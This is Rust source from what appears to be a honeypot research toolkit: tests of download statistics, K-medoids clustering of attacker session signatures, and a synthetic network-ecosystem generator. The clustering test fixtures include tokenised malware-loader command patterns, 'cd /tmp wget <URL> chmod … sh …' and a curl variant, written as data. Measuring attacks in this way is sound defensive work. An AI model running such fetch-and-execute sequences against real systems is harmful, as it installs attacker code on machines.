        assert_eq!(stats.download_sessions, 2);
        assert!((stats.different_ip_frac - 0.5).abs() < 1e-12);
        assert_eq!(stats.unique_download_clients, 2);
        assert_eq!(stats.unique_storage_ips, 2);
    }

    #[test]
    fn sankey_aggregates_types() {
        let reg = registry();
        let sessions = vec![
            rec_with_uri(
                1,
                d(2022, 6, 1),
                ip(10, 0, 0, 5),
                vec!["http://20.0.0.9/a.sh"],
            ),
            rec_with_uri(
                2,
                d(2022, 6, 2),
                ip(10, 0, 1, 5),
                vec!["http://20.0.0.7/a.sh"],
            ),
            rec_with_uri(
                3,
                d(2022, 6, 3),
                ip(10, 0, 2, 5),
                vec!["http://10.0.2.5/a.sh"],
            ),
        ];
        let flows = sankey_flows(&download_events(&sessions), &reg);
        let isp_hosting = flows
            .iter()
            .find(|f| f.client_type == AsType::IspNsp && f.storage_type == AsType::Hosting)
            .unwrap();
        assert_eq!(isp_hosting.events, 2);
        assert_eq!(isp_hosting.same_ip, 0);
        let isp_isp = flows
            .iter()
            .find(|f| f.client_type == AsType::IspNsp && f.storage_type == AsType::IspNsp)
            .unwrap();
        assert_eq!(isp_isp.events, 1);
        assert_eq!(isp_isp.same_ip, 1);
    }

    #[test]
    fn age_buckets_respect_event_date() {
        let reg = registry();
        // AS 200 registered 2022-01-01: young in 2022-06, 1-5y in 2023-06.
        let sessions = vec![
            rec_with_uri(
                1,
                d(2022, 6, 1),
                ip(10, 0, 0, 5),
                vec!["http://20.0.0.9/a.sh"],
            ),
            rec_with_uri(
                2,
                d(2023, 6, 1),
                ip(10, 0, 0, 5),
                vec!["http://20.0.0.9/a.sh"],
            ),
        ];
        let by_month = as_age_by_month(&download_events(&sessions), &reg);
        assert_eq!(by_month[&Month::new(2022, 6)], [1, 0, 0]);
        assert_eq!(by_month[&Month::new(2023, 6)], [0, 1, 0]);
    }

    #[test]
    fn size_buckets() {
        let reg = registry();
        // AS 200 announces one /24; AS 300 announces a /20 = 16 /24s.
        let sessions = vec![
            rec_with_uri(
                1,
                d(2022, 6, 1),
                ip(10, 0, 0, 5),
                vec!["http://20.0.0.9/a.sh"],
            ),
            rec_with_uri(
                2,
                d(2022, 6, 2),
                ip(10, 0, 0, 5),
                vec!["http://30.0.0.9/a.sh"],
            ),
        ];
        let by_month = as_size_by_month(&download_events(&sessions), &reg);
        assert_eq!(by_month[&Month::new(2022, 6)], [1, 1, 0]);
    }

    #[test]
    fn census_counts() {
        let reg = registry();
        let sessions = vec![
            rec_with_uri(
                1,
                d(2022, 6, 1),
                ip(10, 0, 0, 5),
                vec!["http://20.0.0.9/a.sh"],
            ),
            rec_with_uri(
                2,
                d(2022, 6, 2),
                ip(10, 0, 0, 5),
                vec!["http://30.0.0.9/a.sh"],
            ),
        ];
        let census = storage_as_census(&download_events(&sessions), &reg, d(2024, 8, 31));
        assert_eq!(census.total, 2);
        assert_eq!(census.hosting, 2);
        assert_eq!(census.isp, 0);
        // AS 200 was <1y old at its 2022-06 use.
        assert!((census.younger_1y_frac - 0.5).abs() < 1e-12);
        assert!((census.younger_5y_frac - 0.5).abs() < 1e-12);
    }

    #[test]
    fn reuse_buckets_classify_activity_spans() {
        // One IP active a single day; another active 10 days running.
        let mut sessions = vec![rec_with_uri(
            1,
            d(2022, 1, 3),
            ip(10, 0, 0, 5),
            vec!["http://20.0.0.9/a.sh"],
        )];
        for i in 0..10 {
            sessions.push(rec_with_uri(
                10 + i,
                d(2022, 1, 3).plus_days(i as i64),
                ip(10, 0, 0, 6),
                vec!["http://30.0.0.9/a.sh"],
            ));
        }
        let ev = download_events(&sessions);
        let rows = reuse_buckets_by_week(&ev, 28, d(2022, 1, 3), d(2022, 1, 31));
        let (_, counts) = &rows[1]; // week starting 2022-01-10
                                    // Single-day IP fell out? window (t-27, t+6]: still included.
        let total: u64 = counts.iter().sum();
        assert_eq!(total, 2);
        // The 10-day IP lands in the ≤2w bucket at some week.
        let any_2w = rows.iter().any(|(_, c)| c[3] > 0 || c[2] > 0);
        assert!(any_2w);
    }

    #[test]
    fn long_reappearance_detection() {
        let sessions = vec![
            rec_with_uri(
                1,
                d(2022, 1, 1),
                ip(10, 0, 0, 5),
                vec!["http://20.0.0.9/a.sh"],
            ),
            rec_with_uri(
                2,
                d(2022, 8, 1),
                ip(10, 0, 0, 5),
                vec!["http://20.0.0.9/a.sh"],
            ),
            rec_with_uri(
                3,
                d(2022, 1, 1),
                ip(10, 0, 0, 5),
                vec!["http://30.0.0.9/a.sh"],
            ),
        ];
        let frac = long_reappearance_frac(&download_events(&sessions));
        assert!((frac - 0.5).abs() < 1e-12);
    }
}
