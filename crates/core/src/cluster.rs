//! Session clustering over token-DLD (paper §6).
//!
//! The paper runs "K-Means using the \[DLD\] scoring function" over the
//! pairwise distance matrix — i.e. centroids are data points, which is
//! K-medoids. We implement weighted K-medoids (PAM-style alternating
//! assignment/update) over *unique session signatures* weighted by session
//! count: clustering identical sessions repeatedly is pure waste, and the
//! weighting keeps every statistic identical to clustering the raw
//! sessions. Cluster-count selection uses the same two diagnostics as the
//! paper: the WCSS elbow and the silhouette score.

use crate::dld::normalized_dld;

/// A dense symmetric distance matrix over `n` points.
pub struct DistanceMatrix {
    n: usize,
    /// Row-major `n × n` distances (kept dense for cache-friendly sweeps;
    /// signature populations are a few thousand at most).
    d: Vec<f64>,
}

impl DistanceMatrix {
    /// Number of points.
    pub fn len(&self) -> usize {
        self.n
    }

    /// Whether the matrix is empty.
    pub fn is_empty(&self) -> bool {
        self.n == 0
    }

    /// Distance between points `i` and `j`.
    #[inline]
    pub fn get(&self, i: usize, j: usize) -> f64 {
        self.d[i * self.n + j]
    }

    /// Builds the normalized token-DLD matrix, splitting row blocks across
    /// worker threads (each block is a disjoint `&mut` slice).
    pub fn build(signatures: &[Vec<String>]) -> Self {
        let n = signatures.len();
        let mut d = vec![0.0f64; n * n];
        let threads = std::thread::available_parallelism()
            .map_or(4, |p| p.get())
            .min(16);
        Self::build_rows(signatures, &mut d, threads);
        Self { n, d }
    }

    fn build_rows(signatures: &[Vec<String>], d: &mut [f64], threads: usize) {
        let n = signatures.len();
        if n == 0 {
            return;
        }
        let chunk_rows = n.div_ceil(threads.max(1)).max(1);
        crossbeam::thread::scope(|scope| {
            for (chunk_idx, rows) in d.chunks_mut(chunk_rows * n).enumerate() {
                let base = chunk_idx * chunk_rows;
                scope.spawn(move |_| {
                    for (r, row) in rows.chunks_mut(n).enumerate() {
                        let i = base + r;
                        for (j, cell) in row.iter_mut().enumerate() {
                            *cell = normalized_dld(&signatures[i], &signatures[j]);
                        }
                    }
                });
            }
        })
        .expect("distance workers never panic");
    }
}

/// A clustering result.
#[derive(Debug, Clone)]
pub struct Clustering {
    /// Cluster index per point.
    pub assignment: Vec<usize>,
    /// Medoid point index per cluster.
    pub medoids: Vec<usize>,
}

impl Clustering {
    /// Number of clusters.
    pub fn k(&self) -> usize {
        self.medoids.len()
    }

    /// Members of cluster `c`.
    pub fn members(&self, c: usize) -> impl Iterator<Item = usize> + '_ {
        self.assignment
            .iter()
            .enumerate()
            .filter(move |(_, a)| **a == c)
            .map(|(i, _)| i)
    }
}

/// Weighted K-medoids over a distance matrix. Deterministic under `seed`.
pub fn k_medoids(m: &DistanceMatrix, weights: &[u64], k: usize, seed: u64) -> Clustering {
    let n = m.len();
    assert_eq!(weights.len(), n, "one weight per point");
    assert!(k >= 1, "need at least one cluster");
    let k = k.min(n.max(1));
    if n == 0 {
        return Clustering {
            assignment: vec![],
            medoids: vec![],
        };
    }
    // k-means++-style farthest-point seeding, weight-aware and seeded.
    let mut medoids = Vec::with_capacity(k);
    let first = (hutil::rng::derive_seed(seed, "kmedoids-init") % n as u64) as usize;
    medoids.push(first);
    while medoids.len() < k {
        // Pick the point with the largest weighted distance to its nearest
        // chosen medoid (deterministic farthest-point).
        let mut best = (0usize, -1.0f64);
        for (i, &w) in weights.iter().enumerate().take(n) {
            if medoids.contains(&i) {
                continue;
            }
            let near = medoids
                .iter()
                .map(|&c| m.get(i, c))
                .fold(f64::MAX, f64::min);
            let score = near * w as f64;
            if score > best.1 {
                best = (i, score);
            }
        }
        medoids.push(best.0);
    }

    let mut assignment = vec![0usize; n];
    for _round in 0..50 {
        // Assign.
        let mut changed = false;
        for (i, slot) in assignment.iter_mut().enumerate().take(n) {
            let (best_c, _) = medoids
                .iter()
                .enumerate()
                .map(|(c, &med)| (c, m.get(i, med)))
                .min_by(|a, b| a.1.partial_cmp(&b.1).expect("no NaN distances"))
                .expect("k >= 1");
            if *slot != best_c {
                *slot = best_c;
                changed = true;
            }
        }
        // Update medoids.
        let mut updated = false;
        for (c, medoid) in medoids.iter_mut().enumerate() {
            let members: Vec<usize> = (0..n).filter(|&i| assignment[i] == c).collect();
            if members.is_empty() {
                continue;
            }
            let mut best = (*medoid, f64::MAX);
            for &cand in &members {
                let cost: f64 = members
                    .iter()
                    .map(|&j| m.get(cand, j) * weights[j] as f64)
                    .sum();
                if cost < best.1 {
                    best = (cand, cost);
                }
            }
            if best.0 != *medoid {
                *medoid = best.0;
                updated = true;
            }
        }
        if !changed && !updated {
            break;
        }
    }
    Clustering {
        assignment,
        medoids,
    }
}

/// Weighted within-cluster sum of squared distances to the medoid.
pub fn wcss(m: &DistanceMatrix, weights: &[u64], cl: &Clustering) -> f64 {
    cl.assignment
        .iter()
        .enumerate()
        .map(|(i, &c)| {
            let d = m.get(i, cl.medoids[c]);
            d * d * weights[i] as f64
        })
        .sum()
}

/// Weighted mean silhouette score in `[-1, 1]`; higher is better.
/// Single-member clusters contribute 0, the usual convention.
pub fn silhouette(m: &DistanceMatrix, weights: &[u64], cl: &Clustering) -> f64 {
    let n = m.len();
    let k = cl.k();
    if n == 0 || k < 2 {
        return 0.0;
    }
    // Weighted mean distance from i to each cluster.
    let mut total_w = 0.0;
    let mut total_s = 0.0;
    for i in 0..n {
        let mut sums = vec![0.0f64; k];
        let mut ws = vec![0.0f64; k];
        for (j, &wj) in weights.iter().enumerate().take(n) {
            if i == j {
                continue;
            }
            let c = cl.assignment[j];
            sums[c] += m.get(i, j) * wj as f64;
            ws[c] += wj as f64;
        }
        let own = cl.assignment[i];
        // Own-cluster weight excluding i itself but counting i's own
        // multiplicity minus one (duplicates of i are distance 0 anyway).
        let own_extra = (weights[i] - 1) as f64;
        let a_den = ws[own] + own_extra;
        let a = if a_den > 0.0 { sums[own] / a_den } else { 0.0 };
        let b = (0..k)
            .filter(|&c| c != own && ws[c] > 0.0)
            .map(|c| sums[c] / ws[c])
            .fold(f64::MAX, f64::min);
        if b == f64::MAX {
            continue;
        }
        let s = if a_den > 0.0 {
            (b - a) / a.max(b).max(f64::MIN_POSITIVE)
        } else {
            0.0
        };
        total_s += s * weights[i] as f64;
        total_w += weights[i] as f64;
    }
    if total_w > 0.0 {
        total_s / total_w
    } else {
        0.0
    }
}

/// Runs the k-sweep used for cluster-count selection: returns
/// `(k, wcss, silhouette)` per candidate.
pub fn sweep_k(
    m: &DistanceMatrix,
    weights: &[u64],
    ks: &[usize],
    seed: u64,
) -> Vec<(usize, f64, f64)> {
    ks.iter()
        .map(|&k| {
            let cl = k_medoids(m, weights, k, seed);
            (k, wcss(m, weights, &cl), silhouette(m, weights, &cl))
        })
        .collect()
}

/// Elbow pick: the k whose WCSS curve has maximum discrete curvature
/// (second difference). Expects `points` sorted by k ascending.
pub fn select_k_elbow(points: &[(usize, f64)]) -> usize {
    if points.len() < 3 {
        return points.last().map_or(1, |p| p.0);
    }
    let mut best = (points[1].0, f64::MIN);
    for w in points.windows(3) {
        let curv = w[0].1 - 2.0 * w[1].1 + w[2].1;
        if curv > best.1 {
            best = (w[1].0, curv);
        }
    }
    best.0
}

/// Orders cluster indices by ascending mean token count of their members —
/// the paper's presentation order (Cluster 1 shortest … Cluster 90 longest).
pub fn order_by_avg_tokens(
    signatures: &[Vec<String>],
    weights: &[u64],
    cl: &Clustering,
) -> Vec<usize> {
    let mut stats = vec![(0.0f64, 0.0f64); cl.k()];
    for (i, &c) in cl.assignment.iter().enumerate() {
        stats[c].0 += signatures[i].len() as f64 * weights[i] as f64;
        stats[c].1 += weights[i] as f64;
    }
    let mut order: Vec<usize> = (0..cl.k()).collect();
    order.sort_by(|&a, &b| {
        let ma = if stats[a].1 > 0.0 {
            stats[a].0 / stats[a].1
        } else {
            f64::MAX
        };
        let mb = if stats[b].1 > 0.0 {
            stats[b].0 / stats[b].1
        } else {
            f64::MAX
        };
        ma.partial_cmp(&mb).expect("no NaN means")
    });
    order
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sig(s: &str) -> Vec<String> {
        s.split_whitespace().map(str::to_string).collect()
    }

    /// Three well-separated behaviour families.
    fn corpus() -> (Vec<Vec<String>>, Vec<u64>) {
        let sigs = vec![
            sig("echo ok"),
            sig("echo ok now"),
            sig("uname -a"),
            sig("uname -a ; nproc"),
            sig("cd /tmp wget <URL> chmod <NAME> sh <NAME> rm <NAME>"),
            sig("cd /tmp wget <URL> chmod <NAME> sh <NAME>"),
            sig("cd /tmp curl <URL> chmod <NAME> sh <NAME> rm <NAME>"),
        ];
        let weights = vec![100, 5, 40, 4, 20, 10, 8];
        (sigs, weights)
    }

    #[test]
    fn matrix_is_symmetric_with_zero_diagonal() {
        let (sigs, _) = corpus();
        let m = DistanceMatrix::build(&sigs);
        for i in 0..m.len() {
            assert_eq!(m.get(i, i), 0.0);
            for j in 0..m.len() {
                assert_eq!(m.get(i, j), m.get(j, i));
                assert!((0.0..=1.0).contains(&m.get(i, j)));
            }
        }
    }

    #[test]
    fn k3_separates_families() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        let cl = k_medoids(&m, &w, 3, 7);
        assert_eq!(cl.k(), 3);
        // Echo pair together, uname pair together, loaders together.
        assert_eq!(cl.assignment[0], cl.assignment[1]);
        assert_eq!(cl.assignment[2], cl.assignment[3]);
        assert_eq!(cl.assignment[4], cl.assignment[5]);
        assert_eq!(cl.assignment[4], cl.assignment[6]);
        assert_ne!(cl.assignment[0], cl.assignment[2]);
        assert_ne!(cl.assignment[0], cl.assignment[4]);
    }

    #[test]
    fn wcss_decreases_with_k() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        let sweep = sweep_k(&m, &w, &[1, 2, 3, 4], 7);
        for pair in sweep.windows(2) {
            assert!(
                pair[1].1 <= pair[0].1 + 1e-9,
                "wcss must not increase: {:?}",
                sweep
            );
        }
        // Perfect k (= n) has zero WCSS.
        let cl = k_medoids(&m, &w, sigs.len(), 7);
        assert!(wcss(&m, &w, &cl) < 1e-12);
    }

    #[test]
    fn silhouette_prefers_the_natural_k() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        let s3 = silhouette(&m, &w, &k_medoids(&m, &w, 3, 7));
        let s2 = silhouette(&m, &w, &k_medoids(&m, &w, 2, 7));
        assert!(s3 > 0.5, "natural clustering should score high: {s3}");
        assert!(s3 >= s2, "k=3 {s3} should beat k=2 {s2}");
    }

    #[test]
    fn elbow_finds_the_knee() {
        // Synthetic steep-then-flat curve with knee at k=3.
        let pts = vec![(1, 100.0), (2, 40.0), (3, 8.0), (4, 6.0), (5, 5.0)];
        assert_eq!(select_k_elbow(&pts), 3);
        assert_eq!(select_k_elbow(&[(1, 5.0)]), 1);
    }

    #[test]
    fn clustering_is_deterministic() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        let a = k_medoids(&m, &w, 3, 42);
        let b = k_medoids(&m, &w, 3, 42);
        assert_eq!(a.assignment, b.assignment);
        assert_eq!(a.medoids, b.medoids);
    }

    #[test]
    fn order_by_tokens_sorts_short_first() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        let cl = k_medoids(&m, &w, 3, 7);
        let order = order_by_avg_tokens(&sigs, &w, &cl);
        // First ordered cluster is the echo family (2-3 tokens).
        let first = order[0];
        assert!(cl.members(first).any(|i| i == 0));
    }

    #[test]
    fn k_larger_than_n_is_clamped() {
        let sigs = vec![sig("a"), sig("b")];
        let w = vec![1, 1];
        let m = DistanceMatrix::build(&sigs);
        let cl = k_medoids(&m, &w, 10, 1);
        assert_eq!(cl.k(), 2);
    }

    #[test]
    fn empty_input() {
        let m = DistanceMatrix::build(&[]);
        let cl = k_medoids(&m, &[], 3, 1);
        assert_eq!(cl.k(), 0);
        assert_eq!(wcss(&m, &[], &cl), 0.0);
        assert_eq!(silhouette(&m, &[], &cl), 0.0);
    }
}
