//! Seeded synthesis of the AS ecosystem.
//!
//! The generator produces three AS populations with calibrated marginals:
//!
//! * **client ASes** — where attacking machines live; predominantly
//!   ISP/NSP eyeball networks (paper Fig. 7: "Most client IPs are in
//!   ISP/NSP AS types").
//! * **storage ASes** — where malware files are hosted; predominantly
//!   Hosting (358 of 388 in the paper's census, 30 ISPs, 36 down by the end
//!   of the study), skewed young (>35 % registered within a year of use,
//!   >70 % within five years — Fig. 8a) and small (~20 % announce a single
//!   > /24, ~50 % fewer than 50 — Fig. 8b).
//! * **honeypot ASes** — the 65 networks hosting the 221 sensors.
//!
//! Address space is handed out in disjoint blocks, so historic lookups are
//! unambiguous at any date.

use crate::registry::{Announcement, AsRecord, AsRegistry, AsType};
use hutil::rng::SeedTree;
use hutil::Date;
use netsim::{Ipv4Addr, Prefix};
use rand::rngs::StdRng;
use rand::Rng;

/// Knobs for [`generate`]. Defaults reproduce the paper's marginals.
#[derive(Debug, Clone)]
pub struct GenConfig {
    /// Root seed for the whole ecosystem.
    pub seed: u64,
    /// First day of the observation window.
    pub window_start: Date,
    /// Last day of the observation window.
    pub window_end: Date,
    /// Number of client-side ASes.
    pub n_client_ases: usize,
    /// Number of malware-storage ASes (paper: 388).
    pub n_storage_ases: usize,
    /// How many storage ASes are ISPs rather than hosters (paper: 30).
    pub n_storage_isp: usize,
    /// How many storage ASes go "down" before the window ends (paper: 36).
    pub n_storage_down: usize,
    /// Number of ASes hosting honeypots (paper: 65).
    pub n_honeypot_ases: usize,
    /// Background ASes registered *during* the window (paper: ~1,500
    /// globally) that never appear in attacks; they calibrate the "share of
    /// new ASes abused" statistic.
    pub n_background_new_ases: usize,
    /// Fraction of storage ASes younger than one year at the window
    /// midpoint (paper: >35 %).
    pub storage_young_frac: f64,
    /// Fraction of storage ASes between one and five years old (paper:
    /// young + mid > 70 %).
    pub storage_mid_frac: f64,
}

impl GenConfig {
    /// Paper-calibrated defaults over the study window.
    pub fn paper_defaults(seed: u64) -> Self {
        Self {
            seed,
            window_start: Date::new(2021, 12, 1),
            window_end: Date::new(2024, 8, 31),
            n_client_ases: 600,
            n_storage_ases: 388,
            n_storage_isp: 30,
            n_storage_down: 36,
            n_honeypot_ases: 65,
            n_background_new_ases: 1_500,
            storage_young_frac: 0.50,
            storage_mid_frac: 0.38,
        }
    }
}

/// The generated ecosystem.
#[derive(Debug, Clone)]
pub struct SynthWorld {
    /// The unified registry over every population.
    pub registry: AsRegistry,
    /// ASNs of client networks.
    pub client_asns: Vec<u32>,
    /// ASNs of malware-storage networks.
    pub storage_asns: Vec<u32>,
    /// ASNs hosting honeypots.
    pub honeypot_asns: Vec<u32>,
}

/// Kept for API stability: an extension hook for callers that want to add
/// bespoke records before the registry is frozen.
pub trait RegistryBuilderExt {
    /// Adds `record` to the pending record set.
    fn add_record(&mut self, record: AsRecord);
}

impl RegistryBuilderExt for Vec<AsRecord> {
    fn add_record(&mut self, record: AsRecord) {
        self.push(record);
    }
}

/// Sequentially allocates disjoint address blocks.
struct SpaceAllocator {
    next: u32,
}

impl SpaceAllocator {
    fn new() -> Self {
        // Start above reserved low space; everything is synthetic anyway.
        Self {
            next: 0x10_00_00_00,
        }
    }

    /// Allocates prefixes whose deaggregated /24 total equals `n_24s`,
    /// using a greedy power-of-two decomposition (largest piece /12).
    fn alloc(&mut self, n_24s: u64) -> Vec<Prefix> {
        let mut out = Vec::new();
        let mut remaining = n_24s.max(1);
        while remaining > 0 {
            // Largest power-of-two /24 count ≤ remaining, capped at 2^12
            // (a /12) to bound individual prefix size.
            let pow = 63 - remaining.leading_zeros() as u64;
            let pow = pow.min(12);
            let count = 1u64 << pow;
            let len = (24 - pow) as u8;
            // Align to the prefix size.
            let size = count as u32 * 256;
            let aligned = self.next.div_ceil(size) * size;
            out.push(Prefix::new(Ipv4Addr(aligned), len));
            self.next = aligned + size;
            remaining -= count;
        }
        out
    }
}

fn sample_date(rng: &mut StdRng, lo: Date, hi: Date) -> Date {
    let span = hi.days_since(lo).max(0);
    lo.plus_days(rng.random_range(0..=span))
}

/// Draws a storage-AS size in /24s per the Fig. 8b marginals.
fn storage_size(rng: &mut StdRng) -> u64 {
    let u: f64 = rng.random();
    if u < 0.22 {
        1
    } else if u < 0.62 {
        rng.random_range(2..50)
    } else if u < 0.90 {
        rng.random_range(50..500)
    } else {
        rng.random_range(500..4000)
    }
}

/// Draws a client-AS type per the Fig. 7 client-side mix.
fn client_type(rng: &mut StdRng) -> AsType {
    let u: f64 = rng.random();
    if u < 0.76 {
        AsType::IspNsp
    } else if u < 0.88 {
        AsType::Hosting
    } else if u < 0.94 {
        AsType::Cdn
    } else {
        AsType::Other
    }
}

/// Generates the ecosystem.
pub fn generate(cfg: &GenConfig) -> SynthWorld {
    let seeds = SeedTree::new(cfg.seed).child("asdb");
    let mut alloc = SpaceAllocator::new();
    let mut records: Vec<AsRecord> = Vec::new();
    let mut next_asn = 200_000u32;
    let mid = cfg
        .window_start
        .plus_days(cfg.window_end.days_since(cfg.window_start) / 2);

    let mk = |asn: u32,
              org: String,
              as_type: AsType,
              registered: Date,
              n_24s: u64,
              announced_from: Date,
              down_since: Option<Date>,
              alloc: &mut SpaceAllocator| {
        let announcements: Vec<Announcement> = alloc
            .alloc(n_24s)
            .into_iter()
            .map(|prefix| Announcement {
                prefix,
                from: announced_from,
                until: down_since,
            })
            .collect();
        AsRecord {
            asn,
            org,
            as_type,
            registered,
            announcements,
            down_since,
        }
    };

    // --- client ASes: established eyeball/service networks.
    let mut rng = seeds.rng("clients");
    let mut client_asns = Vec::with_capacity(cfg.n_client_ases);
    for i in 0..cfg.n_client_ases {
        let asn = next_asn;
        next_asn += 1;
        let registered = sample_date(
            &mut rng,
            Date::new(1995, 1, 1),
            cfg.window_start.plus_days(-365),
        );
        let size = rng.random_range(16..4096);
        let announced_from = registered.plus_days(30);
        records.push(mk(
            asn,
            format!("CLIENT-NET-{i}"),
            client_type(&mut rng),
            registered,
            size,
            announced_from,
            None,
            &mut alloc,
        ));
        client_asns.push(asn);
    }

    // --- storage ASes: young, small, hosting-heavy.
    let mut rng = seeds.rng("storage");
    let mut storage_asns = Vec::with_capacity(cfg.n_storage_ases);
    for i in 0..cfg.n_storage_ases {
        let asn = next_asn;
        next_asn += 1;
        let u: f64 = rng.random();
        let registered = if u < cfg.storage_young_frac {
            // Younger than a year at the window midpoint.
            sample_date(&mut rng, mid.plus_days(-360), mid.plus_days(-15))
        } else if u < cfg.storage_young_frac + cfg.storage_mid_frac {
            // One to five years.
            sample_date(&mut rng, mid.plus_days(-5 * 365), mid.plus_days(-366))
        } else {
            // Older than five years.
            sample_date(&mut rng, Date::new(2000, 1, 1), mid.plus_days(-5 * 365 - 1))
        };
        let as_type = if i < cfg.n_storage_isp {
            AsType::IspNsp
        } else if i < cfg.n_storage_isp + 8 {
            // A handful of CDN-fronted and "Other" (yet hosting-providing)
            // networks appear sporadically in Fig. 17 / Appendix E.
            AsType::Cdn
        } else if i < cfg.n_storage_isp + 8 + 20 {
            AsType::Other
        } else {
            AsType::Hosting
        };
        let down_since = if i >= cfg.n_storage_ases - cfg.n_storage_down {
            Some(sample_date(&mut rng, mid, cfg.window_end))
        } else {
            None
        };
        let size = storage_size(&mut rng);
        let announced_from = registered.plus_days(rng.random_range(7..60));
        records.push(mk(
            asn,
            format!("STORAGE-NET-{i}"),
            as_type,
            registered,
            size,
            announced_from,
            down_since,
            &mut alloc,
        ));
        storage_asns.push(asn);
    }

    // --- honeypot ASes: residential-looking ISP networks.
    let mut rng = seeds.rng("honeypots");
    let mut honeypot_asns = Vec::with_capacity(cfg.n_honeypot_ases);
    for i in 0..cfg.n_honeypot_ases {
        let asn = next_asn;
        next_asn += 1;
        let registered = sample_date(&mut rng, Date::new(1998, 1, 1), Date::new(2018, 1, 1));
        records.push(mk(
            asn,
            format!("RESIDENTIAL-NET-{i}"),
            AsType::IspNsp,
            registered,
            rng.random_range(64..2048),
            registered.plus_days(30),
            None,
            &mut alloc,
        ));
        honeypot_asns.push(asn);
    }

    // --- background ASes registered during the window (never used in
    // attacks); give them a token /24 each.
    let mut rng = seeds.rng("background");
    for i in 0..cfg.n_background_new_ases {
        let asn = next_asn;
        next_asn += 1;
        let registered = sample_date(&mut rng, cfg.window_start, cfg.window_end);
        records.push(mk(
            asn,
            format!("NEW-NET-{i}"),
            if rng.random::<f64>() < 0.5 {
                AsType::Hosting
            } else {
                AsType::Other
            },
            registered,
            1,
            registered.plus_days(14),
            None,
            &mut alloc,
        ));
    }

    SynthWorld {
        registry: AsRegistry::new(records),
        client_asns,
        storage_asns,
        honeypot_asns,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn world() -> SynthWorld {
        generate(&GenConfig::paper_defaults(42))
    }

    #[test]
    fn populations_have_requested_sizes() {
        let w = world();
        let cfg = GenConfig::paper_defaults(42);
        assert_eq!(w.client_asns.len(), cfg.n_client_ases);
        assert_eq!(w.storage_asns.len(), cfg.n_storage_ases);
        assert_eq!(w.honeypot_asns.len(), cfg.n_honeypot_ases);
        assert_eq!(
            w.registry.len(),
            cfg.n_client_ases
                + cfg.n_storage_ases
                + cfg.n_honeypot_ases
                + cfg.n_background_new_ases
        );
    }

    #[test]
    fn generation_is_deterministic() {
        let a = world();
        let b = world();
        assert_eq!(a.storage_asns, b.storage_asns);
        let d = Date::new(2023, 1, 1);
        for asn in a.storage_asns.iter().take(20) {
            assert_eq!(
                a.registry.by_asn(*asn).unwrap().size_24s_at(d),
                b.registry.by_asn(*asn).unwrap().size_24s_at(d)
            );
        }
    }

    #[test]
    fn storage_age_marginals_match_paper() {
        let w = world();
        let mid = Date::new(2023, 4, 15);
        let ages: Vec<i64> = w
            .storage_asns
            .iter()
            .map(|a| w.registry.by_asn(*a).unwrap().age_years_at(mid))
            .collect();
        let young = ages.iter().filter(|&&a| a < 1).count() as f64 / ages.len() as f64;
        let under5 = ages.iter().filter(|&&a| a < 5).count() as f64 / ages.len() as f64;
        assert!(young > 0.30, "young fraction {young} too small");
        assert!(under5 > 0.65, "under-5 fraction {under5} too small");
    }

    #[test]
    fn storage_size_marginals_match_paper() {
        let w = world();
        let d = Date::new(2022, 6, 1);
        let sizes: Vec<u64> = w
            .storage_asns
            .iter()
            .map(|a| {
                let r = w.registry.by_asn(*a).unwrap();
                r.announcements
                    .iter()
                    .map(|an| an.prefix.deaggregated_24s())
                    .sum()
            })
            .collect();
        let one = sizes.iter().filter(|&&s| s == 1).count() as f64 / sizes.len() as f64;
        let under50 = sizes.iter().filter(|&&s| s < 50).count() as f64 / sizes.len() as f64;
        assert!((0.12..0.30).contains(&one), "single-/24 fraction {one}");
        assert!(
            (0.52..0.72).contains(&under50),
            "under-50 fraction {under50}"
        );
        let _ = d;
    }

    #[test]
    fn storage_type_census_matches_paper() {
        let w = world();
        let isp = w
            .storage_asns
            .iter()
            .filter(|a| w.registry.by_asn(**a).unwrap().as_type == AsType::IspNsp)
            .count();
        assert_eq!(isp, 30);
        let down = w
            .storage_asns
            .iter()
            .filter(|a| w.registry.by_asn(**a).unwrap().down_since.is_some())
            .count();
        assert_eq!(down, 36);
    }

    #[test]
    fn client_mix_is_isp_heavy() {
        let w = world();
        let isp = w
            .client_asns
            .iter()
            .filter(|a| w.registry.by_asn(**a).unwrap().as_type == AsType::IspNsp)
            .count() as f64
            / w.client_asns.len() as f64;
        assert!(isp > 0.6, "ISP share {isp}");
    }

    #[test]
    fn background_ases_are_registered_inside_window() {
        let w = world();
        let cfg = GenConfig::paper_defaults(42);
        let n = w
            .registry
            .registered_between(cfg.window_start, cfg.window_end);
        // All background ASes plus possibly a few storage ones.
        assert!(n >= cfg.n_background_new_ases);
    }

    #[test]
    fn every_announced_ip_resolves_to_its_as() {
        let w = world();
        let d = Date::new(2024, 1, 1);
        for asn in w.client_asns.iter().take(50) {
            let rec = w.registry.by_asn(*asn).unwrap();
            let ip = rec.announcements[0].prefix.nth(1);
            let hit = w.registry.lookup(ip, d).expect("announced IP must resolve");
            assert_eq!(hit.asn, *asn);
        }
    }

    #[test]
    fn allocation_blocks_are_disjoint() {
        let w = world();
        let mut ranges: Vec<(u32, u32)> = w
            .registry
            .records()
            .iter()
            .flat_map(|r| {
                r.announcements.iter().map(|a| {
                    let s = a.prefix.base().0;
                    (s, s + (a.prefix.num_addrs() - 1) as u32)
                })
            })
            .collect();
        ranges.sort_unstable();
        for pair in ranges.windows(2) {
            assert!(pair[0].1 < pair[1].0, "overlap: {:?}", pair);
        }
    }
}
