//! Vendored minimal stand-in for the `bytes` crate.
//!
//! Provides [`Bytes`], [`BytesMut`] and the [`Buf`]/[`BufMut`] traits with
//! the exact semantics `sshwire` relies on (`split_to`, `advance`, `freeze`,
//! `get_u8`/`get_u32`, `put_*`). Unlike upstream, buffers are plain
//! `Vec<u8>`s and `split_to` copies instead of sharing a refcounted slab —
//! identical observable behaviour, no `unsafe`, fast enough for a honeypot
//! dialogue simulator.

use std::fmt;
use std::ops::{Deref, DerefMut};

/// Read-side cursor trait.
pub trait Buf {
    fn remaining(&self) -> usize;
    fn chunk(&self) -> &[u8];
    fn advance(&mut self, cnt: usize);

    fn has_remaining(&self) -> bool {
        self.remaining() > 0
    }

    fn get_u8(&mut self) -> u8 {
